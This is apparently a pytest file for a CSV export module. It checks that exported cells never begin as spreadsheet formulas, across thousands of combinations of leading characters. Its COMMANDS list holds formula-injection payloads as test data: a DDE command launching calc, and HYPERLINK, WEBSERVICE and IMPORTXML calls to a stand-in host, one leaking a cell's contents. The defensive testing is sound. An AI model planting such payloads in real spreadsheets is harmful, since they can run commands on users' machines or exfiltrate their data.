"""Tables for spreadsheets: what people wrote stays text. By rule: no spreadsheet program is installed for the tests."""

import csv
import io
import unicodedata

from organize.spreadsheets import BYTE_ORDER_MARK, csv_lines, inert

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "|", "%", "\u2212", "\uff1d", "\uff0b", "\uff0d", "\uff20",
          "\ufe66", "\ufe62", "\ufe63", "\ufe6b"]  # fmt: skip
BEFORE = ["", " ", "\u00a0", "\u200b", "\ufeff", "\u202e", "\x01", "  \t", "\u3000", "\r\n", "\0"]
COMMANDS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?a="&A1,"x")', "SUM(1+9)*cmd|' /C calc'!A0",
    'DDE("a";"b")',
    'WEBSERVICE("http://x.example")', "2", "", '"", =1+1', ';=1+1;', "\n=1+1", 'IMPORTXML("http://x.example","//a")',
]  # fmt: skip
HARMLESS = ["Ana Ruiz", "O’Neil", "J. R. Marsh", "Zoë–Quist", "'Abd", "李明", "محمد علي", "12 people", "a=b", "x@y"]


def read(text):
    """The cells of a CSV as a program reads it, without what some take off the beginning."""
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


def is_formula(cell):
    """Whether a spreadsheet may take the cell for more than text, however leniently it looks at its beginning."""
    plain = unicodedata.normalize("NFKC", cell).lstrip()
    plain = "".join(one for one in plain if unicodedata.category(one) not in ("Cc", "Cf")).lstrip()
    return plain[:1] in set("=+-@|%\u2212") or cell[:1] in ("\t", "\r", "\n", "\0")


def test_p60_no_cell_of_an_export_is_a_formula(reach):
    """What hostile cells there are, each in every place of a row: after reading, none begins as a formula does."""
    hostile = [before + start + command for before in BEFORE for start in STARTS for command in COMMANDS]
    hostile = [cell for cell in hostile if is_formula(cell)]  # as it is
    assert len(hostile) > 2000
    chosen = reach.chance.sample(hostile, reach.size(sample=500, full=len(hostile)))
    lines = list(csv_lines(["Name", "=A1"], ((cell, "Ana", cell) for cell in chosen)))
    rows = read("".join(lines))
    assert len(rows) == len(chosen) + 1 == len(lines), "no cell breaks its line"
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if is_formula(cell)] == []
    assert all(cell.startswith("'") for row in rows[1:] for cell in (row[0], row[2]))
    # Read with the separator of another country or program, quoted cells still begin at their quote.
    for separator in (";", "\t", "|"):
        again = csv.reader(io.StringIO("".join(lines).removeprefix(BYTE_ORDER_MARK), newline=""), delimiter=separator)
        assert not any(is_formula(row[0]) for row in again)
    reach.reached(f"0 formulas in {len(chosen):,} hostile strings, read by rule (no spreadsheet program here)")


def test_harmless_cells_stay_as_they_are():
    assert [inert(cell) for cell in HARMLESS] == HARMLESS
    assert inert(12) == "12" and inert("") == ""


def test_file_is_utf8_that_every_spreadsheet_recognises():
    text = "".join(csv_lines(["Name"], [["Zoë"], ['a "b", c']]))
    assert text == '\ufeff"Name"\r\n"Zoë"\r\n"a ""b"", c"\r\n'
